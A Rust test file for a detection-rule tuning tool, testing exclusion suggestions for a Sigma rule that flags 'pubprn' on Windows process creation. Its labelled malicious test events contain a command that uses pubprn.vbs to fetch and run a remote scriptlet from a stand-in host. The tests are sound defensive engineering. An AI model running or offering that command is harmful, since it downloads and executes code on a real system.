//! Labels that are missing, one-sided or about other events, and events that are huge or many.

use super::{Case, case};
use cutout_core::report::advice::{Label, Placement, PredicateText};
use std::time::{Duration, Instant};

const RULE: &str = "title: x
logsource: {category: process_creation, product: windows}
detection:
  selection:
    CommandLine|contains: pubprn
  condition: selection
";

fn events() -> Case {
    case(
        RULE,
        &["pubprn.vbs 127.0.0.1 script:https://example.com/a.sct".to_owned()],
        &[
            "pubprn.vbs prn01.example.com LDAP://CN=Printers".to_owned(),
            "notepad a.txt".to_owned(),
        ],
    )
}

fn note(labels: &[(u32, Label)]) -> String {
    let mut case = events();
    case.labels = labels.to_vec();
    let suggestions = case.suggest();
    suggestions.note.unwrap_or_default()
}

#[test]
fn what_the_labels_leave_open_is_said() {
    let (malicious, benign) = (Label::Malicious, Label::Benign);
    assert!(note(&[]).starts_with("No event is labelled."));
    assert!(note(&[(0, malicious)]).starts_with("All labelled events that the rule matches"));
    assert!(note(&[(1, benign)]).starts_with("No malicious event"));
    assert!(note(&[(2, benign)]).starts_with("The rule matches none of the labelled events."));
    // An event that is not there, and one that is labelled both ways.
    assert!(note(&[(99, benign)]).starts_with("The rule matches none of the labelled events."));
    assert!(note(&[(0, benign), (0, malicious)]).starts_with("All labelled events"));
    assert_eq!(note(&[(0, malicious), (1, benign)]), "");
}

#[test]
fn a_rule_that_matches_nothing_has_nothing_to_exclude() {
    let rule = RULE.replace("pubprn", "something else");
    let case = case(&rule, &["pubprn a".to_owned()], &["pubprn b".to_owned()]);
    let suggestions = case.suggest();
    assert_eq!(suggestions.candidates, []);
    assert!(
        suggestions
            .note
            .unwrap()
            .starts_with("The rule matches none of these events")
    );
}

#[test]
fn a_benign_event_like_the_malicious_one_leaves_nothing_to_offer() {
    let line = "pubprn.vbs 127.0.0.1 script:https://example.com/a.sct".to_owned();
    let suggestions = case(
        RULE,
        std::slice::from_ref(&line),
        std::slice::from_ref(&line),
    )
    .suggest();
    assert_eq!(suggestions.candidates, []);
    assert!(suggestions.lost_a_malicious > 0);
    assert!(
        suggestions
            .note
            .unwrap()
            .starts_with("Nothing is left to offer")
    );
}

#[test]
fn a_rule_or_an_exclusion_that_is_none_is_refused_in_words() {
    let case = events();
    assert_eq!(case.analyzer.suggest(7, &case.labels).candidates, []);
    let exclude = |rule: usize, field: &str, op: &str, value: &str| {
        let predicate = PredicateText {
            field: field.into(),
            op: op.into(),
            value: value.into(),
        };
        let done = case
            .analyzer
            .exclude(rule, &[predicate], Placement::Main, &case.labels);
        done.unwrap_err()
    };
    assert!(exclude(7, "Image", "eq", "x").contains("no such rule"));
    assert!(exclude(0, "Image", "resembles", "x").contains("Image resembles"));
    assert!(exclude(0, "Image", "lt", "many").contains("Image lt"));
    let nothing = case.analyzer.exclude(0, &[], Placement::Main, &case.labels);
    assert!(nothing.is_err());
}

/// Applying what would lose a malicious event says so.
#[test]
fn what_a_change_loses_is_counted() {
    let case = events();
    let predicate = PredicateText {
        field: "CommandLine".into(),
        op: "contains".into(),
        value: "127.0.0.1".into(),
    };
    let patch = case
        .analyzer
        .exclude(0, &[predicate], Placement::Main, &case.labels)
        .unwrap();
    assert_eq!(
        (patch.before, patch.after, patch.lost),
        (vec![0, 1], vec![1], vec![0])
    );
}

#[test]
fn huge_values_are_read_and_not_offered() {
    let huge = "x".repeat(1 << 20);
    let case = case(
        RULE,
        &[format!("pubprn.vbs {huge}a evil")],
        &[
            format!("pubprn.vbs {huge}b"),
            "pubprn.vbs prn01.example.com".to_owned(),
        ],
    );
    let started = Instant::now();
    let suggestions = case.suggest();
    assert!(started.elapsed() < Duration::from_secs(20));
    assert!(!suggestions.candidates.is_empty());
    let values = suggestions
        .candidates
        .iter()
        .flat_map(|one| &one.predicates);
    assert!(values.into_iter().all(|one| one.value.len() <= 512));
}

/// The promise of two seconds is for a release build; this one is many times slower.
#[test]
fn ten_thousand_benign_events_are_no_problem() {
    let event = |at: usize| {
        format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","User":"EXAMPLE\\user{}","Image":"C:\\Windows\\System32\\cscript.exe","ParentImage":"C:\\Users\\user{}\\AppData\\Local\\Contoso\\app-1.{}.0\\agent.exe","CommandLine":"cscript pubprn.vbs prn{at}.example.com LDAP://CN=Printers{at}"}}"#,
            at % 500,
            at % 500,
            at % 7
        )
    };
    let benign: Vec<String> = (0..10_000).map(event).collect();
    let attack = "cscript pubprn.vbs 127.0.0.1 script:https://example.com/a.sct".to_owned();
    let attack = format!(
        r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","User":"EXAMPLE\\user1","Image":"C:\\Windows\\System32\\cscript.exe","ParentImage":"C:\\Windows\\explorer.exe","CommandLine":"{attack}"}}"#
    );
    let case = case(RULE, &[attack], &benign);
    let started = Instant::now();
    let suggestions = case.suggest();
    println!("{} ms", started.elapsed().as_millis());
    let first = &suggestions.candidates[0];
    assert_eq!(first.removes.len(), 10_000);
    assert_eq!(
        (
            first.predicates[0].op.as_str(),
            first.predicates[0].value.as_str()
        ),
        (
            "wildcard",
            r"C:\Users\*\AppData\Local\Contoso\app-*\agent.exe"
        )
    );
}
